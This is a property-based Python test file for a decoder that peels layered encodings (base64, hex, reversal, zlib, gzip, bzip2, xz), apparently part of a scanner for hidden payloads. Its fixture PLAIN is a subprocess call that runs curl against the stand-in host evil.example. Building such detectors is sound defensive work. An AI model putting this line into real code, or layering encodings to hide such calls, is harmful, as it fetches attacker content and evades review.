"""Decoding ends, gives the same each time, and finds what was encoded, whatever the bytes."""

from __future__ import annotations

import base64
import bz2
import gzip
import lzma
import zlib

from hypothesis import given, settings
from hypothesis import strategies as st

from pratique.releases.decoding import DEPTH, MOST_LAYERS, Budget, layers

ENCODERS = {
    "base64": base64.b64encode,
    "base32": base64.b32encode,
    "hex": lambda content: content.hex().encode(),
    "reversed": lambda content: content[::-1],
    "zlib": zlib.compress,
    "gzip": gzip.compress,
    "bzip2": bz2.compress,
    "xz": lzma.compress,
}
PLAIN = b"import subprocess; subprocess.run(['curl', 'http://evil.example/file'])"


@given(
    st.one_of(
        st.binary(max_size=2000),
        st.text(max_size=500).map(lambda text: text.encode("utf-8", "surrogatepass")),
        st.text("ABCabc0123+/=_- \\xu%,;", max_size=300).map(str.encode),
        st.binary(max_size=300).map(base64.b64encode),
        st.binary(max_size=300).map(lambda content: base64.b64encode(zlib.compress(content)[::-1])),
    )
)
def test_any_bytes_give_bounded_layers(literal: bytes) -> None:
    budget = Budget(octets=1 << 20, steps=2000)
    found = list(layers(literal, budget))
    assert found == list(layers(literal, Budget(octets=1 << 20, steps=2000)))
    assert len(found) <= MOST_LAYERS
    assert all(1 <= len(layer.encodings) <= DEPTH and layer.meaning for layer in found)
    assert 0 <= budget.octets <= 1 << 20
    assert 0 <= budget.steps <= 2000


@given(st.lists(st.sampled_from(sorted(ENCODERS)), min_size=1, max_size=5))
@settings(max_examples=200)
def test_what_was_encoded_is_found(names: list[str]) -> None:
    content = PLAIN
    kept = []
    for name in names:
        if name == "reversed" and kept[-1:] == ["reversed"]:
            continue
        kept.append(name)
        content = ENCODERS[name](content)
    if kept[-1] in ("zlib", "gzip", "bzip2", "xz"):
        content = base64.b64encode(content)
    if kept[-1] == "reversed" and kept[-2:-1] and kept[-2] in ("zlib", "gzip", "bzip2", "xz"):
        content = base64.b64encode(content)
    assert PLAIN in [layer.content for layer in layers(content, Budget())]
